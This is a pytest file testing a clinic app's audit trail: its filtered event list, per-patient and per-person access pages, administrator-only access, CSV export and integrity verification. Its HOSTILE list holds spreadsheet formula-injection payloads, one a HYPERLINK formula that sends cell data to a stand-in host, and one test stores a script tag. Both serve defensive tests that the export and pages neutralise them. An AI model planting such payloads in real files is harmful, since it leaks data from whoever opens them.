"""The trail: its list, one event, who opened a patient, what a person opened, and the file."""

import csv
import gc
import io
import re
import tracemalloc
from datetime import timedelta

import pytest
from sqlalchemy import select, update

from clinic import audit, clock
from clinic.blueprints.audit import export
from clinic.blueprints.audit.changes import Change, changes_of
from clinic.blueprints.audit.export import HEADER, plain
from clinic.extensions import db
from clinic.formatting import act
from clinic.models import AuditArchive, AuditEvent, AuthSession, JobRun
from clinic.queries import audit as queries
from tests.events import days_ago, event_total, write_event, write_events
from tests.queries_counted import counted

OTHERS = ("ruwan", "nimal", "kamal", "silva")
HOSTILE = (
    '=HYPERLINK("http://x/?"&A1)',
    "+1+1",
    "-2+3",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "＝1",
    "\ufeff=1",
    '="a","b"\n=c',
)


@pytest.fixture
def adel(browser_of):
    return browser_of("adel")


@pytest.fixture
def told(context, world):
    """A few events that every filter tells apart; their numbers by name."""
    kamal = {"actor_id": world.people["kamal"], "role": "student", "address": "10.0.0.7", "device": "Firefox Windows"}
    fernando = {"patient_id": world.patients["fernando"]}
    return {
        "opened": write_event(**kamal, **fernando, sentence="Opened the overview of Nimali Fernando", at=days_ago(3)),
        "changed": write_event(
            **kamal,
            **fernando,
            act="patient.change",
            sentence="Changed the phone",
            reason="She told me",
            before='{"name": "Nimali", "phone": "077"}',
            after='{"name": "Nimali", "phone": "078 <b>"}',
            at=days_ago(1),
        ),
        "called": write_event(
            actor_id=world.people["ruwan"],
            role="receptionist",
            act="queue.call",
            sentence="Called A-001 to chair A1",
            patient_id=world.patients["perera"],
            address="10.0.0.8",
            at=days_ago(1, hour=12),
        ),
        "refused": write_event(
            act="session.refused", sentence="Wrong password", address="10.9.9.9", at=days_ago(0, hour=0)
        ),
    }


def shown(page) -> list[int]:
    return [int(number) for number in re.findall(r'<tr id="e(\d+)"', page.text)]


class TestList:
    def test_it_shows_the_newest_first_with_who_what_whom_and_from_where(self, adel, told):
        page = adel.get("/audit")
        assert page.status_code == 200
        assert [number for number in shown(page) if number in told.values()] == sorted(told.values(), reverse=True)
        for words in (
            "Kamal Dias",
            "student",
            "Nimali Fernando",
            "P-2026-00001",
            "Reason: ",
            "She told me",
            "10.0.0.7",
        ):
            assert words in page.text
        assert "nobody signed in" in page.text
        assert "Firefox on Windows" in page.text
        assert 'href="/patients/' not in page.text

    def test_filters_narrow_combine_and_can_be_taken_away(self, adel, told, world):
        kamal, fernando = world.people["kamal"], world.patients["fernando"]
        day = clock.local(days_ago(1)).date()
        for query, names in (
            (f"person_id={kamal}", ["changed", "opened"]),
            (f"patient_id={fernando}", ["changed", "opened"]),
            ("act=queue.call", ["called"]),
            ("act=patient.*", ["changed", "opened"]),
            ("role=receptionist", ["called"]),
            ("role=nobody&address=10.9.9.9", ["refused"]),
            ("address=10.0.0.8", ["called"]),
            (f"from={day}&to={day}", ["called", "changed"]),
            (f"person_id={kamal}&from={day}", ["changed"]),
            (f"patient_id={fernando}&role=student&act=patient.open", ["opened"]),
            (f"patient_id={fernando}&role=nurse", []),
        ):
            page = adel.get(f"/audit?{query}")
            assert shown(page) == [told[name] for name in names], query
            assert page.text.count('aria-label="take away"') == query.count("="), query
        assert "Nothing of that kind" in page.text
        chips = re.findall(r'<li><a class="btn" href="([^"]+)"', page.text)
        assert chips == ["/audit?role=nurse", f"/audit?patient_id={fernando}"]

    def test_a_typed_name_becomes_an_id(self, adel, told, world):
        kamal, perera = world.people["kamal"], world.patients["perera"]
        assert adel.get("/audit?person=kamal&role=student").location == f"/audit?person_id={kamal}&role=student"
        assert adel.get("/audit?patient=P-2026-00002&person=").location == f"/audit?patient_id={perera}"

    def test_a_name_that_means_several_is_asked_back(self, adel, told, world):
        page = adel.get("/audit?patient=P-2026&role=student")
        assert "Whom do you mean?" in page.text
        assert f'href="/audit?role=student&amp;patient_id={world.patients["wu"]}"' in page.text
        assert shown(page) == []
        assert "Dr Sunil Silva" in adel.get("/audit?person=dr").text
        told = shown(adel.get("/audit?act=audit.read"))
        assert "a person named “dr”" in adel.get(f"/audit/{told[0]}").text
        assert "role student; a patient named “P-2026”" in adel.get(f"/audit/{told[1]}").text
        assert adel.get("/audit/export?person=dr").status_code == 422

    @pytest.mark.parametrize(
        ("query", "says"),
        [
            ("person=zzzz", "Nobody has this name"),
            ("patient=zzzz", "Nobody has this name"),
            ("act=no.such", "Choose one from the list"),
            ("role=king", "Choose one from the list"),
            ("from=yesterday", "Choose a day"),
            ("from=0001-01-01", "Choose a day after"),
            ("to=9999-12-31", "up to a year from now"),
            ("from=2026-03-02&to=2026-03-01", "The last day is before the first"),
            (f"address={'x' * 65}", "At most 64 letters"),
        ],
    )
    def test_what_cannot_be_asked_is_refused(self, adel, told, query, says):
        for path in ("/audit", "/audit/export"):
            answer = adel.get(f"{path}?{query}")
            assert answer.status_code == 422
            assert says in answer.text
            assert shown(answer) == []

    @pytest.mark.parametrize("query", ["person_id=99999", "patient_id=99999"])
    def test_an_id_of_nobody_is_not_found(self, adel, told, query):
        assert adel.get(f"/audit?{query}").status_code == 404

    @pytest.mark.parametrize("query", ["person_id=-1", "patient_id=x", f"person_id={10**30}"])
    def test_an_id_that_is_none_is_refused(self, adel, told, query):
        assert adel.get(f"/audit?{query}").status_code == 422

    def test_pages_follow_one_another(self, adel, told):
        write_events([{"sentence": f"Number {number}", "address": "10.1.1.1"} for number in range(120)])
        url, seen = "/audit?address=10.1.1.1", []
        while url:
            page = adel.get(url)
            seen += shown(page)
            links = re.findall(r'rel="next" href="([^"]+)"', page.text)
            url = links[0].replace("&amp;", "&") if links else None
        assert len(seen) == 120
        assert seen == sorted(set(seen), reverse=True)
        assert 'href="/audit?address=10.1.1.1">Newest' in page.text

    def test_a_number_that_is_none_or_too_large_harms_nothing(self, adel, told):
        assert shown(adel.get("/audit?before=x"))
        assert adel.get(f"/audit?before={10**40}").status_code in (200, 422)
        assert shown(adel.get("/audit?before=-5")) == []

    def test_it_says_when_there_is_nothing(self, adel, told):
        assert "Nothing of that kind" in adel.get("/audit?address=192.0.2.1").text

    def test_it_says_how_far_it_looked(self, adel, told, monkeypatch, world):
        monkeypatch.setattr(queries, "LOOK", 5)
        write_events([{"address": "10.1.1.1", "role": "nurse"}, {"address": "10.1.1.2", "role": "student"}] * 20)
        page = adel.get("/audit?address=10.1.1.1&role=student")
        assert "Looked back as far as" in page.text
        assert "Look further back" in page.text

    def test_it_says_where_older_events_are(self, adel, told, context):
        db.session.add(
            AuditArchive(first=1, last=1, first_mac="", last_mac="m", key="k", sha256="s", seal="", at=clock.now())
        )
        db.session.commit()
        assert "Events up to number 1 were moved to the archive" in adel.get("/audit").text

    def test_stored_words_stay_words(self, adel, context):
        write_event(sentence="<script>x</script>", reason="<b>", address="<i>", device="<u>")
        assert "<script>x" not in adel.get("/audit").text


class TestEvent:
    def test_it_shows_everything_and_before_and_after_side_by_side(self, adel, told):
        page = adel.get(f"/audit/{told['changed']}").text
        for words in ("Changed the phone", "Kamal Dias", "She told me", "10.0.0.7", "patient: change"):
            assert words in page
        rows = re.findall(r'<tr( class="is-changed")?>\s*<th scope="row">(\w+)</th>(.*?)</tr>', page, re.DOTALL)
        cells = [
            [
                bool(changed),
                name,
                *(re.sub(r"<.*?>", "", cell).strip() for cell in re.findall(r"<td.*?</td>", rest, re.DOTALL)),
            ]
            for changed, name, rest in rows
        ]
        assert cells == [
            [True, "phone", "077", "078 &lt;b&gt;", "changed"],
            [False, "name", "Nimali", "Nimali", "same"],
        ]
        assert f"/audit/patients/{1}" in page

    def test_an_event_without_before_and_after_has_no_table(self, adel, told):
        assert "Before and after" not in adel.get(f"/audit/{told['opened']}").text
        assert adel.get(f"/audit/{told['refused']}").status_code == 200

    def test_there_is_no_such_event(self, adel, told):
        assert adel.get("/audit/999999").status_code == 404


@pytest.mark.parametrize(
    ("before", "after", "changes"),
    [
        (None, None, []),
        ('{"a": 1, "b": 2}', '{"a": 1, "b": 3}', [Change("b", "2", "3", "changed"), Change("a", "1", "1", "same")]),
        (None, '{"a": null}', [Change("a", None, "nothing", "added")]),
        ('{"a": true}', None, [Change("a", "yes", None, "removed")]),
        ('{"a": [1, "é"]}', '{"a": {"x": 1}}', [Change("a", '[1, "é"]', '{"x": 1}', "changed")]),
        ("{broken", None, [Change("not readable", "{broken", None, "removed")]),
        (None, "[1]", [Change("", None, "[1]", "added")]),
    ],
)
def test_what_changed(before, after, changes):
    assert changes_of(before, after) == changes


class TestDays:
    def test_who_opened_this_patient(self, adel, told, world):
        page = adel.get(f"/audit/patients/{world.patients['fernando']}")
        assert page.status_code == 200
        assert "Who opened" in page.text
        assert page.text.count("Kamal Dias") == 3  # everybody, and two days
        assert "patient: change" in page.text
        assert "Ruwan Senanayake" not in page.text.split("<main")[1]

    def test_what_this_person_opened(self, adel, told, world):
        write_event(
            actor_id=world.people["kamal"], role="student", act="access.denied", patient_id=world.patients["wu"]
        )
        page = adel.get(f"/audit/people/{world.people['kamal']}").text
        assert "Nimali Fernando" in page
        assert "吴美玲" in page
        assert "1 refused" in page
        assert "Ana Perera" not in page

    def test_who_tried_a_number_of_nobody(self, adel, told, world, browser_of):
        browser_of("kamal").get("/patients/99999")
        page = adel.get(f"/audit/people/{world.people['kamal']}").text
        assert "number 99999, who is nobody" in page
        assert "/audit/patients/99999" not in page
        number = shown(adel.get("/audit?act=access.not_found"))[0]
        assert "number 99999, who is nobody" in adel.get(f"/audit/{number}").text

    def test_nobody_and_nothing(self, adel, told, world):
        assert "Nobody so far" in adel.get(f"/audit/patients/{world.patients['archie']}").text
        assert "Nothing so far" in adel.get(f"/audit/people/{world.people['omar']}").text
        assert adel.get("/audit/patients/99999").status_code == 404
        assert adel.get("/audit/people/99999").status_code == 404
        for until, status in (("never", 200), ("2026-02-30", 200), ("0001-01-01", 422), ("9999-12-31", 200)):
            assert adel.get(f"/audit/patients/{world.patients['fernando']}?until={until}").status_code == status

    def test_earlier_days_follow(self, adel, told, world, monkeypatch):
        monkeypatch.setattr(queries, "GROUPS", 1)
        first = adel.get(f"/audit/patients/{world.patients['fernando']}").text
        (earlier,) = re.findall(r'rel="next" href="([^"]+)"', first)
        assert "patient: open" in adel.get(earlier).text
        assert 'rel="next"' not in adel.get(earlier).text

    def test_a_person_s_page_leads_there(self, adel, world):
        assert f"/audit/people/{world.people['kamal']}" in adel.get(f"/people/{world.people['kamal']}").text


@pytest.mark.parametrize("name", OTHERS)
def test_only_administrators_read_it(browser_of, told, world, name):
    person = browser_of(name)
    for path in ("", "/1", f"/patients/{world.patients['fernando']}", f"/people/{world.people['kamal']}", "/export"):
        assert person.get(f"/audit{path}").status_code == 403


def test_reading_pages_changes_nothing_in_the_clinic(adel, told, world, app):
    with app.app_context():
        before = [tuple(row) for row in db.session.execute(select(AuditEvent.__table__).where(AuditEvent.id <= 4))]
    for path in ("", f"/{told['changed']}", f"/patients/{world.patients['fernando']}", "/export"):
        assert adel.get(f"/audit{path}").status_code == 200
    with app.app_context():
        after = [tuple(row) for row in db.session.execute(select(AuditEvent.__table__).where(AuditEvent.id <= 4))]
    assert after == before


def read_csv(answer) -> list[dict[str, str]]:
    assert answer.status_code == 200
    assert answer.data.startswith(b"\xef\xbb\xbf")
    return list(csv.DictReader(io.StringIO(answer.data.decode("utf-8-sig"), newline="")))


class TestExport:
    def test_it_is_the_list_as_a_file(self, adel, told, world):
        answer = adel.get(f"/audit/export?person_id={world.people['kamal']}")
        assert answer.content_type == "text/csv; charset=utf-8"
        assert answer.headers["Content-Disposition"] == f"attachment; filename=trail-{clock.today()}.csv"
        assert answer.headers["Cache-Control"] == "no-store"
        rows = read_csv(answer)
        assert list(rows[0]) == list(HEADER)
        assert [int(row["number"]) for row in rows] == [told["changed"], told["opened"]]
        assert rows[0]["person"] == "Kamal Dias"
        assert rows[0]["patient code"] == "P-2026-00001"
        assert rows[0]["before"] == '{"name": "Nimali", "phone": "077"}'
        assert rows[0]["time"] == clock.local(days_ago(1)).isoformat()
        assert "/audit/export?act=queue.call" in adel.get("/audit?act=queue.call").text

    def test_it_is_written_down_itself(self, adel, told, world, app):
        fernando = world.patients["fernando"]
        rows = read_csv(adel.get(f"/audit/export?patient_id={fernando}&role=student"))
        with app.app_context():
            event = db.session.scalars(select(AuditEvent).where(AuditEvent.act == "audit.export")).one()
            assert event.sentence == (
                "Exported 2 events of the trail: patient Nimali Fernando, P-2026-00001; role student"
            )
            assert (event.patient_id, event.actor_id) == (fernando, world.people["adel"])
            assert '"events": 2' in (event.after or "")
        assert len(rows) == 2

    @pytest.mark.parametrize("hostile", HOSTILE)
    def test_no_cell_is_a_formula(self, adel, context, hostile):
        write_event(
            sentence=hostile,
            reason=hostile,
            device=hostile,
            address=hostile,
            subject=hostile,
            before=hostile,
            after=hostile,
        )
        row = read_csv(adel.get("/audit/export"))[0]
        for name in ("sentence", "reason", "device", "address", "subject", "before", "after"):
            assert row[name] == f"'{hostile}"

    def test_words_stay_as_they_are(self):
        for words in ("Called A-001", "a=b", '{"a": "=1"}', "", "1-2", "吴美玲", "نادية"):
            assert plain(words) == words
        assert plain(None) == ""

    def test_without_its_event_no_byte_leaves(self, adel, told, monkeypatch):
        def fail(*_args, **_kwargs):
            raise RuntimeError("the trail cannot be written")

        monkeypatch.setattr(audit, "mac_of", fail)
        answer = adel.get("/audit/export")
        assert answer.status_code == 500
        assert b"Opened the overview" not in answer.data
        assert b"number" not in answer.data[:20]

    def test_what_comes_meanwhile_is_not_in_it(self, adel, told, monkeypatch, app):
        monkeypatch.setattr(export, "BATCH", 2)
        answer = adel.get("/audit/export", buffered=False)
        chunks = answer.iter_encoded()
        text = next(chunks)
        with app.app_context():
            write_events([{"sentence": "Later"}] * 5)
        text += b"".join(chunks)
        assert b"Later" not in text
        with app.app_context():
            said = db.session.scalars(select(AuditEvent.sentence).where(AuditEvent.act == "audit.export")).one()
        assert said.startswith(f"Exported {text.count(bytes([13, 10])) - 1} events")

    def test_it_ends_with_the_session(self, adel, told, monkeypatch, app):
        monkeypatch.setattr(export, "BATCH", 1)
        chunks = adel.get("/audit/export", buffered=False).iter_encoded()
        next(chunks), next(chunks)
        with app.app_context():
            db.session.get_one(AuthSession, adel.session_id).ended_at = clock.now()
            db.session.commit()
        assert list(chunks) == [f'"{export.CUT_OFF}"\r\n'.encode()]

    def test_memory_does_not_grow_with_the_trail(self, adel, context, app):
        long = '{"text": "' + "x" * 2000 + '"}'

        def most_memory(count: int) -> int:
            write_events([{"after": long}] * count, chained=False)
            answer = adel.get("/audit/export", buffered=False)
            gc.collect()  # what earlier work left in circles is not counted, nor when it is cleared away
            tracemalloc.start()
            size = sum(len(chunk) for chunk in answer.iter_encoded())
            most = tracemalloc.get_traced_memory()[1]
            tracemalloc.stop()
            assert size > count * 2000
            return most

        most_memory(export.BATCH)  # what is made once
        few = most_memory(export.BATCH)
        assert most_memory(10 * export.BATCH) < few * 3

    def test_whoever_goes_away_leaves_no_connection_behind(self, adel, told, monkeypatch, app):
        monkeypatch.setattr(export, "BATCH", 1)
        closed = []
        monkeypatch.setattr(
            app, "teardown_appcontext_funcs", [*app.teardown_appcontext_funcs, lambda _e: closed.append(1)]
        )
        answer = adel.get("/audit/export", buffered=False)
        chunks = answer.iter_encoded()
        next(chunks), next(chunks)
        between = len(closed)
        answer.close()
        assert between >= 2  # the request's, and the batch's: nothing is open between two chunks
        assert event_total() > 0


def test_the_number_of_queries_does_not_grow(adel, told, world):
    addresses = ["/audit", "/audit?role=student&act=patient.*", f"/audit/patients/{world.patients['fernando']}"]
    addresses.append(f"/audit/people/{world.people['kamal']}")

    def sent() -> list[int]:
        numbers = []
        for address in addresses:
            with counted() as statements:
                assert adel.get(address).status_code == 200
            numbers.append(len([one for one in statements if not one.startswith(("INSERT", "UPDATE"))]))
        return numbers

    common = {"actor_id": world.people["kamal"], "role": "student", "patient_id": world.patients["fernando"]}
    write_events([common] * 10)
    few = sent()
    write_events([common] * 990, chained=False)
    assert sent() == few


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("patient.open", "patient: open"),
        ("read.patients.new", "read: the form to register a patient"),
        ("read.no.such_page", "read: no such page"),
        ("access.not_found", "access: not found"),
        ("odd", "odd"),
    ],
)
def test_acts_are_said_in_words(context, name, said):
    assert act(name) == said


class TestVerify:
    def test_it_says_what_was_proved_by_whom_and_is_an_event(self, adel, told, shelf, app, world):
        assert "Nobody has had the trail verified yet" in adel.get("/audit").text
        answer = adel.post("/audit/verify")
        assert answer.status_code == 303
        page = adel.get(answer.location).text
        assert page.count("are whole, and 0 anchors in the object store agree.") >= 2  # the toast, and what stays
        assert "asked by Adel Rahman" in page
        with app.app_context():
            event = db.session.scalars(select(AuditEvent).where(AuditEvent.act == "audit.verify")).one()
            assert event.actor_id == world.people["adel"]

    def test_the_first_bad_event_is_named(self, adel, told, shelf, app):
        with app.app_context():
            db.session.execute(update(AuditEvent).where(AuditEvent.id == told["changed"]).values(sentence="Nothing"))
            db.session.commit()
        page = adel.get(adel.post("/audit/verify").location).text
        assert f"Event {told['changed']} was changed" in page
        assert f'href="/audit?before={told["changed"] + 1}"' in page

    def test_a_store_that_is_away_is_said(self, adel, told, shelf):
        shelf.away = True
        assert "the object store does not answer" in adel.get(adel.post("/audit/verify").location).text

    def test_the_last_run_of_the_timer_is_shown_too(self, adel, told, app):
        for minutes, succeeded, summary in ((9, True, "All whole."), (5, False, "Event 3 was changed."), (1, None, "")):
            with app.app_context():
                at = clock.now() - timedelta(minutes=minutes)
                ended = None if succeeded is None else at
                run = JobRun(name="verify-audit", started_at=at, ended_at=ended, succeeded=succeeded, summary=summary)
                db.session.add(run)
                db.session.commit()
        page = adel.get("/audit").text
        assert "Verified the whole trail: Event 3 was changed." in page
        assert "by the timer" in page
        assert 'class="refusal"' in page
        assert "All whole" not in page

    def test_a_result_that_somebody_wrote_over_is_not_believed(self, adel, told, context):
        for after in ("{broken", None, "[1]", '{"whole": "yes"}'):
            write_event(act="audit.verify", sentence="Verified the trail: all well", after=after)
            assert 'class="refusal"' in adel.get("/audit").text

    def test_the_same_form_twice_is_one_event(self, adel, told, shelf, app):
        for _ in range(2):
            assert adel.post("/audit/verify", once="the same form").status_code == 303
        with app.app_context():
            assert len(db.session.scalars(select(AuditEvent).where(AuditEvent.act == "audit.verify")).all()) == 1

    @pytest.mark.parametrize("name", OTHERS)
    def test_others_may_not(self, browser_of, told, name):
        assert browser_of(name).post("/audit/verify").status_code == 403
